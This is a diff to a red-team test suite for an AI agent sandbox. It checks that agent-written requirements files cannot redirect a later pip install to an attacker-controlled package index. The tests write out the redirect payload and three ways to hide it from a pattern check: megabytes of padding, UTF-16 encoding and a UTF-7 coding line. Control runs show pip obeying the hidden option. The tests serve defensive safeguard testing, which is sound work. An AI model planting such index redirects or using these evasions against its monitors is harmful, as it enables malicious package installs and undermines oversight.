@@ -180,25 +180,36 @@ describeJail('red team: nothing of the agent\'s making steers a later step', () 
     expect((await later(ws, 'sh', loop)).stdout).toContain(scene.homeSecret);
   });
 
-  it('tool configuration that sends a later install elsewhere: index options in a requirements file, even past its first MiB', async () => {
+  it('tool configuration that sends a later install elsewhere: index options in a requirements file, past its first MiB, in UTF-16 or under a coding line', async () => {
     const ws = checkout();
     fs.writeFileSync(path.join(ws, 'requirements.txt'), 'left-pad-py==1.0\n');
     execFileSync('chown', [`${scene.user.uid}:${scene.user.gid}`, path.join(ws, 'requirements.txt')]);
     const evilIndex = `--index-url ${scene.evil.url}simple/`;
-    // 1.2 MB of comments first: a rule that judged only the head of the file would miss the option.
-    const r = await runAgent('root', ws, `yes '# ${'x'.repeat(98)}' | head -n 12000 > requirements.txt && printf '%s\\nleft-pad-py==1.0\\n' '${evilIndex}' >> requirements.txt && cp requirements.txt constraints-dev.txt`);
+    const wanted = `${evilIndex}\nleft-pad-py==1.0\n`;
+    // Three ways past a pattern over the UTF-8 text: 1.2 MB of comments first, UTF-16 with its mark,
+    // and a PEP 263 coding line with the option in UTF-7. pip reads all three (the controls show it).
+    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(wanted, 'utf16le')]);
+    const utf7 = Buffer.from(`# -*- coding: utf-7 -*-\n${wanted.replace(/-/g, '+AC0-')}`);
+    const octal = (b: Buffer) => [...b].map((x) => `\\${x.toString(8).padStart(3, '0')}`).join('');
+    const r = await runAgent('root', ws, [
+      `yes '# ${'x'.repeat(98)}' | head -n 12000 > requirements.txt && printf '%s\\n%s\\n' '${evilIndex}' 'left-pad-py==1.0' >> requirements.txt`,
+      `printf '${octal(utf16)}' > dev-requirements.txt`,
+      `printf '${octal(utf7)}' > constraints.txt`,
+    ].join(' && '));
     expectRan(r);
-    expect(r.stderr).toMatch(/boundary: requirements\.txt: refused: pip reads/);
-    expect(r.stderr).toMatch(/boundary: constraints-dev\.txt: refused: pip reads/);
+    for (const file of ['requirements.txt', 'dev-requirements.txt', 'constraints.txt']) expect(r.stderr).toContain(`boundary: ${file}: refused: pip reads`);
+    // The later step names its own index; pip still takes the file's, as the controls show.
+    const pip = (file: string) => later(ws, '/usr/bin/python3', ['-m', 'pip', 'download', '--no-deps', '--retries', '0', '--timeout', '3', '-d', path.join(scene.user.home, 'dl'), '-r', file, '--index-url', `${scene.legit.url}simple/`]);
     scene.evil.seen.length = 0;
-    // The later step names its own index; pip still takes the file's, as the control shows.
-    const pip = () => later(ws, '/usr/bin/python3', ['-m', 'pip', 'download', '--no-deps', '--retries', '0', '--timeout', '3', '-d', path.join(scene.user.home, 'dl'), '-r', 'requirements.txt', '--index-url', `${scene.legit.url}simple/`]);
-    await pip();
+    for (const file of ['requirements.txt', 'dev-requirements.txt', 'constraints.txt']) await pip(file);
     expect(scene.evil.seen).toEqual([]);
-    // Control: the agent's file in place sends the install to the agent's host.
-    fs.writeFileSync(path.join(ws, 'requirements.txt'), `${'# pad\n'.repeat(200_000)}${evilIndex}\nleft-pad-py==1.0\n`);
-    await pip();
-    expect(scene.evil.seen.map((s) => s.url)).toContain('/simple/left-pad-py/');
-    scene.evil.seen.length = 0;
+    // Controls: each agent file in place sends the install to the agent's host.
+    const controls: [string, Buffer][] = [['requirements.txt', Buffer.from(`${'# pad\n'.repeat(200_000)}${wanted}`)], ['dev-requirements.txt', utf16], ['constraints.txt', utf7]];
+    for (const [file, bytes] of controls) {
+      fs.writeFileSync(path.join(ws, file), bytes);
+      await pip(file);
+      expect({ file, seen: scene.evil.seen.map((x) => x.url) }).toEqual({ file, seen: ['/simple/left-pad-py/'] });
+      scene.evil.seen.length = 0;
+    }
   });
 });
